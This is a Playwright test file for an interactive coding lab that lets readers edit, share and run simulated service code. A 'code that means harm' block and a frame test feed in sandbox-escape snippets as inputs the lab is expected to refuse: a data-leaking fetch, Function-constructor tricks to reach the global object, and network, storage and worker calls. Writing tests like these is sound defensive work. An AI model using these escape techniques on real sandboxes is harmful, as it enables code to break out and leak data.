/** A reader repairs a service in its own file, sends the repair on, and opens one that somebody else has sent. */
import { readFileSync } from 'node:fs'
import { deflateRawSync } from 'node:zlib'
import type { Locator, Page } from '@playwright/test'
import {
  expect,
  expectAccessible,
  expectAccessibleInBothThemes,
  expectNoSidewaysScroll,
  setWidth,
  test,
  widths,
} from './fixtures'
import {
  chapter,
  expectRunning,
  filledIn,
  fingerprintOf,
  labOf,
  promiseOf,
  startLab,
  startTimeoutMs,
  waitForEnd,
} from './lab'

const lost = 'crash orders before orders.ts:"announce it" #2'
const broken = `${chapter}?lab=outbox&variant=dual-write&seed=7&schedule=${encodeURIComponent(lost)}`
const ordersFile = 'services/dual-write/orders.ts'
const ordersText = readFileSync(`simulations/outbox/${ordersFile}`, 'utf8')

/** As a link carries it. */
function packed(value: unknown): string {
  return deflateRawSync(JSON.stringify(value)).toString('base64url')
}

function linkWith(files: Record<string, string>, address = broken): string {
  return `${address}#lab-outbox;code=${packed({ v: 1, files })}`
}

async function openEditor(lab: Locator): Promise<Locator> {
  await lab.getByRole('button', { name: 'Edit', exact: true }).click()
  const editor = lab.getByRole('textbox', { name: /^orders\.ts, editable/ })
  await expect(editor).toBeVisible({ timeout: 20_000 })
  return editor
}

/** Puts a text in place of the whole file. */
async function rewrite(page: Page, editor: Locator, text: string): Promise<void> {
  await editor.focus()
  await page.keyboard.press('Control+a')
  await page.keyboard.insertText(text)
}

const yours = 'The run below is of your code.'

test('a reader changes a service, sees the run change, and goes back', async ({ page }) => {
  await page.goto(broken)
  const lab = labOf(page)
  await expectRunning(lab)
  const before = await fingerprintOf(lab).textContent()
  const editor = await openEditor(lab)
  await expect(lab.getByText('Nothing changed yet.')).toBeVisible()

  // Announced first, so the crash before it loses nothing and stores nothing.
  const announce = /\n {2}\/\/ announce it\n.*\n/.exec(ordersText)?.[0] ?? ''
  expect(announce).not.toBe('')
  const swapped = ordersText
    .replace(announce, '\n')
    .replace('\n  // store the order', `${announce}\n  // store the order`)
  await rewrite(page, editor, swapped)
  await expect(lab.getByText(yours)).toBeVisible({ timeout: startTimeoutMs })
  await expect(lab.getByText('You changed orders.ts.')).toBeVisible()
  expect(await fingerprintOf(lab).textContent()).not.toBe(before)
  await lab.getByRole('slider', { name: 'Time' }).focus()
  await page.keyboard.press('End')
  await expect(promiseOf(lab, 'Every committed order is announced')).toContainText('kept')

  await lab.getByRole('radio', { name: 'Original' }).click()
  await expect(fingerprintOf(lab)).toHaveText(before ?? '')
  await lab.getByRole('radio', { name: 'Yours' }).click()
  await expect(lab.getByText(yours)).toBeVisible()

  await lab.getByRole('button', { name: 'Back to the original' }).first().click()
  await expect(fingerprintOf(lab)).toHaveText(before ?? '')
  await expect(lab.getByText('You changed orders.ts.')).toBeHidden()
  await lab.getByRole('button', { name: 'Bring my changes back' }).click()
  await expect(lab.getByText(yours)).toBeVisible()
})

test('a mistake is named at its line, and what was typed outlives a reload', async ({ page }) => {
  await page.goto(chapter)
  const lab = await startLab(page)
  const editor = await openEditor(lab)
  await editor.focus()
  await page.keyboard.press('Control+End')
  await page.keyboard.insertText('\nconst half = [')
  await expect(lab.locator('.cm-mistake')).toContainText(/^Line \d+, column \d+: /)
  await expect(lab.getByText(/The run below is the last one that could be made/)).toBeVisible()
  // Nothing is judged meanwhile, and the one next step leads to the mistake.
  await expect(lab.getByText('Waits for code that runs').first()).toBeVisible()
  const toLine = lab.getByRole('button', { name: /^Go to line \d+$/ })
  expect(await filledIn(lab)).toEqual([await toLine.textContent()])
  await page.keyboard.press('Control+Home')
  await lab.getByRole('tab', { name: 'payments.ts' }).click()
  for (const width of widths) {
    await test.step(`the way to the line, at ${width} px`, async () => {
      await setWidth(page, width)
      await expect(toLine).toBeVisible()
      await expectNoSidewaysScroll(page)
      if (width !== 1024) await expectAccessibleInBothThemes(page, '#lab-outbox')
    })
  }
  await toLine.press('Enter')
  await expect(editor).toBeFocused()
  await expect(lab.locator('.cm-mistake')).toBeInViewport()
  await setWidth(page, 1440)
  await editor.focus()
  await page.keyboard.press('Control+End')

  await page.keyboard.insertText('1]')
  await expect(lab.getByText(yours)).toBeVisible({ timeout: startTimeoutMs })
  await expect(lab.locator('.cm-mistake')).toHaveCount(0)
  await page.keyboard.press('Control+s')
  await expect(lab.getByRole('button', { name: 'Try 1', exact: true })).toBeVisible()
  await expect.poll(() => page.url()).toContain(';code=')
  const mine = await fingerprintOf(lab).textContent()

  // The tab's own text is not asked about.
  await page.reload()
  await expectRunning(lab)
  await expect(lab.getByText('You changed orders.ts.')).toBeVisible()
  expect(await fingerprintOf(lab).textContent()).toBe(mine)
  // Listed as the lab's own code is.
  await expect(
    lab
      .locator('[data-line]', { hasText: 'const half = [1]' })
      .locator('code span', { hasText: /^const$/ }),
  ).toBeVisible()

  // Without the address there is what was kept.
  await page.goto(chapter)
  await startLab(page)
  await openEditor(lab)
  await lab.getByRole('button', { name: 'Take your last change up again' }).click()
  await expect(lab.getByText(yours)).toBeVisible({ timeout: startTimeoutMs })
  await expect(editor).toContainText('const half = [1]')
})

test('two labs of one page keep what was changed in each', async ({ page }) => {
  await page.goto(chapter)
  const lab = await startLab(page)
  await (await openEditor(lab)).focus()
  await page.keyboard.press('Control+Home')
  await page.keyboard.insertText('// in the first\n')
  await expect(lab.getByText(yours)).toBeVisible({ timeout: startTimeoutMs })

  const other = await startLab(page, 'Lab 6.2')
  await other.getByRole('button', { name: 'Edit', exact: true }).click()
  await other.getByRole('tab', { name: 'payments.ts' }).click()
  await other.getByRole('textbox', { name: /^payments\.ts, editable/ }).focus()
  await page.keyboard.press('Control+Home')
  await page.keyboard.insertText('// in the second\n')
  await expect(other.getByText(yours)).toBeVisible({ timeout: startTimeoutMs })

  await page.goto(chapter)
  await startLab(page)
  await openEditor(lab)
  const kept = lab.getByRole('list', { name: 'What you kept' })
  await expect(kept).toContainText('orders.ts, payments.ts')
})

test('a wrong schema is refused in Postgres’ own words', async ({ page }) => {
  await page.goto(chapter)
  const lab = await startLab(page)
  await openEditor(lab)
  await lab.getByRole('tab', { name: 'orders.sql' }).click()
  const editor = lab.getByRole('textbox', { name: /^orders\.sql, editable/ })
  await editor.focus()
  await page.keyboard.press('Control+End')
  await page.keyboard.insertText('\ncreate tabel x ();')
  await expect(lab.locator('.cm-mistake')).toContainText('syntax error at or near "tabel"', {
    timeout: startTimeoutMs,
  })
})

test('a link with code asks first, runs the same run, and asks once', async ({
  page,
  context,
  browser,
  baseURL,
}) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write'])
  await page.goto(broken)
  const lab = labOf(page)
  await expectRunning(lab)
  const editor = await openEditor(lab)
  await editor.focus()
  await page.keyboard.press('Control+End')
  await page.keyboard.insertText('\nconst waited = sleep(3)\n')
  await page.keyboard.press('Control+Home')
  await page.keyboard.insertText("import { sleep } from 'faultline'\n")
  await expect(lab.getByText(yours)).toBeVisible({ timeout: startTimeoutMs })
  const mine = await fingerprintOf(lab).textContent()
  await lab.getByRole('button', { name: 'Share run' }).click()
  await expect
    .poll(() => page.evaluate(() => navigator.clipboard.readText()))
    .toContain('#lab-outbox;code=')
  const link = await page.evaluate(() => navigator.clipboard.readText())

  const stranger = await browser.newContext({ baseURL: baseURL ?? '' })
  const other = await stranger.newPage()
  await other.goto(link)
  const asked = other.getByRole('heading', { name: 'This link carries code' })
  await expect(asked).toBeVisible({ timeout: startTimeoutMs })
  const same = labOf(other)
  await expect(same.getByRole('textbox', { name: /^orders\.ts, read only/ })).toBeVisible()
  await expect(same.getByText(/^\d+ lines, unchanged$/)).toBeVisible()
  await same.getByRole('button', { name: 'Show the whole file' }).click()
  await expect(same.getByText(/^\d+ lines, unchanged$/)).toHaveCount(0)
  await same.getByRole('button', { name: 'Fold what is unchanged' }).click()
  await expect(same.getByRole('slider', { name: 'Time' })).toHaveCount(0)
  for (const width of widths) {
    await setWidth(other, width)
    await expectNoSidewaysScroll(other)
  }
  await expectAccessible(other, '#lab-outbox')
  await same.getByRole('button', { name: 'Run this code' }).click()
  await expectRunning(same)
  expect(await fingerprintOf(same).textContent()).toBe(mine)

  await other.goto('/')
  await other.goto(link)
  await expectRunning(same)
  await expect(asked).toHaveCount(0)
  await stranger.close()
})

test('the original can be had instead', async ({ page }) => {
  await page.goto(linkWith({ [ordersFile]: `${ordersText}\n// more` }))
  const lab = labOf(page)
  await lab
    .getByRole('button', { name: 'Open the original instead' })
    .click({ timeout: startTimeoutMs })
  await expectRunning(lab)
  await expect(lab.getByText('You changed orders.ts.')).toHaveCount(0)
  await expect.poll(() => page.url()).not.toContain('code=')
})

test.describe('without the editor’s code', () => {
  test.use({ allowedErrors: [/Failed to load/] })

  test('the lab stays, the editor can be asked for again, and Ctrl Enter sweeps what was typed', async ({
    page,
  }) => {
    let there = false
    await page.route('**/_next/**/*.js', async (route) => {
      const response = await route.fetch()
      // The editor's own code.
      if (!there && (await response.text()).includes('cm-lineNumbers')) await route.abort()
      else await route.fulfill({ response })
    })
    await page.goto(broken)
    const lab = labOf(page)
    await expectRunning(lab)
    await lab.getByRole('button', { name: 'Edit', exact: true }).click()
    await expect(lab.getByText(/^The editor could not be loaded: /)).toBeVisible({
      timeout: 20_000,
    })
    await expect(lab.getByRole('slider', { name: 'Time' })).toBeVisible()
    await expectAccessible(page, '#lab-outbox')
    there = true
    await lab.getByRole('button', { name: 'Retry', exact: true }).press('Enter')
    const editor = lab.getByRole('textbox', { name: /^orders\.ts, editable/ })
    await expect(editor).toBeFocused({ timeout: 20_000 })

    await page.keyboard.press('Control+Home')
    await page.keyboard.insertText('// mine\n')
    await page.keyboard.press('Control+Enter')
    const sweep = lab.locator('[data-mode="sweep"]')
    await expect(sweep).toBeVisible({ timeout: startTimeoutMs })
    await expect(lab.getByRole('heading', { name: 'Every fault at once' })).toBeFocused()
    await expect(lab.getByText('You changed orders.ts.')).toBeVisible()
    await lab.getByRole('button', { name: 'Back to the run' }).click()
    // No line was put in by the key.
    await expect(editor.locator('.cm-line').nth(1)).not.toBeEmpty()
  })
})

test.describe('where nothing that was kept can be reached', () => {
  test.use({ allowedErrors: [/Failed to load/] })
  test.beforeEach(({ page }) =>
    page.route('**/_next/**/*.js', async (route) => {
      const response = await route.fetch()
      // The store's own code.
      if ((await response.text()).includes('QuotaExceededError')) await route.abort()
      else await route.fulfill({ response })
    }),
  )
  // The store is asked for again and again: one may be under way at the end.
  test.afterEach(({ page }) => page.unrouteAll({ behavior: 'ignoreErrors' }))

  test('the foot of the page says so, until it can', async ({ page }) => {
    await page.goto(chapter)
    const card = page.locator('[data-predict="outbox/after-the-crash"]')
    await card.scrollIntoViewIfNeeded()
    const note = page.getByRole('contentinfo').getByRole('status')
    await expect(note).toContainText('Progress is not kept until')
    await page.unrouteAll({ behavior: 'wait' })
    await card.getByRole('radio', { name: /^The order, its message and a payment/ }).check()
    await card.getByRole('button', { name: 'Commit my answer' }).click()
    await expect(card.getByText('You said: The order, its message and a payment.')).toBeVisible()
    await expect(note).toBeEmpty()
  })

  test('a link with code asks all the same, and runs', async ({ page }) => {
    await page.goto(linkWith({ [ordersFile]: `${ordersText}\n// more` }))
    const lab = labOf(page)
    await lab.getByRole('button', { name: 'Run this code' }).click({ timeout: startTimeoutMs })
    await expectRunning(lab)
    await expect(lab.getByText('You changed orders.ts.')).toBeVisible()
  })
})

test.describe('a link with bad code says what is wrong, and the lab runs', () => {
  const cases: [title: string, hash: string, sentence: RegExp][] = [
    ['that is damaged', ';code=%25%25', /damaged and cannot be read/],
    ['that cannot be inflated', ';code=AAAA', /damaged and cannot be read/],
    ['of 100 kB', `;code=${'A'.repeat(100_000)}`, /longer than 60000 characters/],
    ['of another version', `;code=${packed({ v: 2, files: {} })}`, /another version of the site/],
    [
      'that unfolds to megabytes',
      `;code=${deflateRawSync(' '.repeat(8_000_000)).toString('base64url')}`,
      /The code in this address is too long/,
    ],
    [
      'for a file that is not there',
      `;code=${packed({ v: 1, files: { 'services/x.ts': '' } })}`,
      /changes services\/x\.ts, which this lab does not have/,
    ],
  ]
  for (const [title, hash, sentence] of cases) {
    test(title, async ({ page }) => {
      await page.goto(`${broken}#lab-outbox${hash}`)
      const lab = labOf(page)
      await expectRunning(lab)
      await expect(lab.getByText(sentence).first()).toBeVisible()
      await expect(page.getByRole('heading', { name: 'This link carries code' })).toHaveCount(0)
    })
  }

  test('of a lab that is not on the page', async ({ page }) => {
    await page.goto(`${chapter}?lab=nowhere#lab-nowhere;code=${packed({ v: 1, files: {} })}`)
    const message = page.getByText(
      'This link names a lab that this page does not have: nowhere. Nothing of it was run.',
    )
    await expect(message).toBeVisible()
    await expectAccessible(page, 'article > p[role="status"]')
    await expectNoSidewaysScroll(page)
    await message.getByRole('link', { name: 'Go to the first lab of this page' }).click()
    await expect(labOf(page)).toBeInViewport()
    await expect(message).toHaveCount(0)
    await startLab(page)
  })

  test('of a lab that is not on the page, by its anchor alone, however long it is', async ({
    page,
  }) => {
    await page.goto(`${chapter}#lab-${'x'.repeat(5_000)};code=abc`)
    await expect(page.getByText(`does not have: ${'x'.repeat(40)}….`)).toBeVisible()
    await expectNoSidewaysScroll(page)
  })
})

test.describe('code that means harm', () => {
  test.use({ allowedErrors: [/Content Security Policy/] })

  const cases: [title: string, code: string, sentence: RegExp][] = [
    [
      'fetch',
      "fetch('https://example.org/?stolen')",
      /No node here answers at https:\/\/example\.org/,
    ],
    ['indexedDB', "indexedDB.open('faultline')", /"indexedDB\.open" does not exist in a simulated/],
    ['postMessage', 'for (;;) postMessage(1)', /"postMessage" does not exist in a simulated/],
    [
      'an endless loop',
      'while (true);',
      /^orders loops for ever at orders\.ts, line \d+\. The run was stopped there/,
    ],
    ['a syntax error', 'const = 1', /orders\.ts, line \d+: /],
    [
      'the global object by the back door',
      ";(() => {}).constructor('return this')().postMessage(1)",
      /orders\.ts:\d+: Function makes code of a text, which no simulated process can\./,
    ],
    [
      'the global object by a door without a name',
      "void (async () => {})['constr' + 'uctor']('return globalThis')()",
      /orders\.ts:\d+: AsyncFunction makes code of a text, which no simulated process can\./,
    ],
  ]
  for (const [title, code, sentence] of cases) {
    test(title, async ({ page }) => {
      test.setTimeout(240_000)
      await page.goto(linkWith({ [ordersFile]: `${ordersText}\n${code}\n` }))
      const lab = labOf(page)
      await lab.getByRole('button', { name: 'Run this code' }).click({ timeout: startTimeoutMs })
      await expectRunning(lab)
      await lab.getByRole('slider', { name: 'Time' }).focus()
      await page.keyboard.press('End')
      await lab.getByRole('tab', { name: 'Story' }).click()
      await expect(lab.getByText(sentence).first()).toBeVisible({ timeout: startTimeoutMs })
      // The page lives on, and so does the lab.
      const outbox = lab.getByRole('radio', { name: 'Outbox', exact: true })
      await outbox.click()
      await expect(outbox).toBeChecked({ timeout: startTimeoutMs })
      await lab.getByRole('slider', { name: 'Time' }).focus()
      await page.keyboard.press('End')
      await waitForEnd(lab)
      await expect(promiseOf(lab, 'Every committed order is announced')).toContainText('kept')
    })
  }
})

test.describe('the frame of changed code', () => {
  test.use({ allowedErrors: [/./] })

  /** Runs a script as the worker of the frame, and returns the first thing that it says. */
  async function inFrame(page: Page, script: string): Promise<unknown> {
    const { frame } = JSON.parse(readFileSync('public/generated/manifest.json', 'utf8'))
    return page.evaluate(
      ({ frame, script }) =>
        new Promise((resolve) => {
          const { port1, port2 } = new MessageChannel()
          port1.onmessage = ({ data }) => {
            if (data.kind === 'ended' || data.response?.said) resolve(data)
          }
          const element = document.createElement('iframe')
          element.setAttribute('sandbox', 'allow-scripts')
          element.src = `/generated/${frame}`
          element.onload = () =>
            element.contentWindow?.postMessage({ worker: script }, '*', [port2])
          document.body.append(element)
        }),
      { frame, script },
    )
  }

  test('lets even bare code reach nothing', async ({ page, baseURL }) => {
    await page.goto('/')
    const script = `
      const ways = {
        fetch: () => fetch('${baseURL}/'),
        xhr: () => new Promise((resolve, reject) => {
          const request = new XMLHttpRequest()
          request.onload = resolve
          request.onerror = () => reject(new Error('blocked'))
          request.open('GET', '${baseURL}/')
          request.send()
        }),
        socket: () => new Promise((resolve, reject) => {
          const socket = new WebSocket('ws://127.0.0.1:1/')
          socket.onopen = resolve
          socket.onerror = () => reject(new Error('blocked'))
        }),
        indexedDB: () => new Promise((resolve, reject) => {
          const request = indexedDB.open('faultline')
          request.onsuccess = resolve
          request.onerror = () => reject(new Error('blocked'))
        }),
        caches: () => caches.keys(),
        scripts: () => importScripts('${baseURL}/generated/manifest.json'),
        module: () => import('${baseURL}/generated/manifest.json'),
        text: () => new Function('return 1')(),
        worker: () => new Promise((resolve, reject) => {
          const worker = new Worker('${baseURL}/generated/manifest.json')
          worker.onmessage = resolve
          worker.onerror = () => reject(new Error('blocked'))
        }),
      }
      const went = async () => {
        const through = []
        for (const [name, way] of Object.entries(ways)) {
          try { await way(); through.push(name) } catch {}
        }
        return through
      }
      went().then((through) => postMessage({ said: true, origin: self.origin, through }))
    `
    expect(await inFrame(page, script)).toEqual({
      kind: 'answer',
      response: { said: true, origin: 'null', through: [] },
    })
  })

  test('stops a flood of messages', async ({ page }) => {
    await page.goto('/')
    expect(await inFrame(page, 'for (;;) postMessage({ flood: 1 })')).toMatchObject({
      kind: 'ended',
      reason: expect.stringMatching(/more messages than the page can read/),
    })
  })
})

test('an endless loop is named at its line, nothing is judged, and the lab goes on', async ({
  page,
}) => {
  await page.goto(broken)
  const lab = labOf(page)
  await expectRunning(lab)
  const editor = await openEditor(lab)
  const looping = ordersText.replace(
    '  // store the order',
    '  while (true) {}\n  // store the order',
  )
  await rewrite(page, editor, looping)
  const line = looping.split('\n').indexOf('  while (true) {}') + 1
  await expect(
    lab.getByText(new RegExp(`^Line ${line}, met by orders at .* ms: This goes round for ever`)),
  ).toBeVisible({ timeout: startTimeoutMs })
  await expect(lab.getByText(`orders loops for ever at orders.ts, line ${line}`)).toBeVisible()
  // From another file there is a way to it.
  await lab.getByRole('tab', { name: 'payments.ts' }).click()
  await rewrite(page, lab.getByRole('textbox', { name: /^payments\.ts/ }), '// nothing\n')
  await lab.getByRole('button', { name: `orders.ts, line ${line}: this goes round` }).click()
  await expect(editor).toBeVisible()

  await lab.getByRole('slider', { name: 'Time' }).focus()
  await page.keyboard.press('End')
  const told = promiseOf(lab, 'Every committed order is announced')
  await expect(told).toContainText('could not be checked')
  await expect(told).toContainText(`orders loops for ever at orders.ts, line ${line}.`)
  await expectAccessible(page, '#lab-outbox')

  await rewrite(page, editor, ordersText)
  await expect(lab.getByText(/goes round for ever/)).toHaveCount(0, { timeout: startTimeoutMs })
  await lab.getByRole('slider', { name: 'Time' }).focus()
  await page.keyboard.press('End')
  await expect(told).not.toContainText('could not be checked')
})

test('what a run met in the reader’s code stands at its line, with its time, and blocks nothing', async ({
  page,
}) => {
  await page.goto(broken)
  const lab = labOf(page)
  await expectRunning(lab)
  await lab.getByRole('button', { name: 'Edit', exact: true }).click()
  await lab.getByRole('textbox', { name: /^orders\.ts, editable/ }).focus()
  await page.keyboard.press('Control+a')
  await page.keyboard.insertText(ordersText.replace('INSERT INTO orders', 'INSERT INTO ordrs'))
  await expect(lab.getByText('The run below is of your code.')).toBeVisible({
    timeout: startTimeoutMs,
  })
  await expect(
    lab.getByText(/^Line \d+, met by orders at \d+\.\d ms: relation "ordrs" does not exist/),
  ).toBeVisible()
  await expectAccessible(page, '#lab-outbox')
})
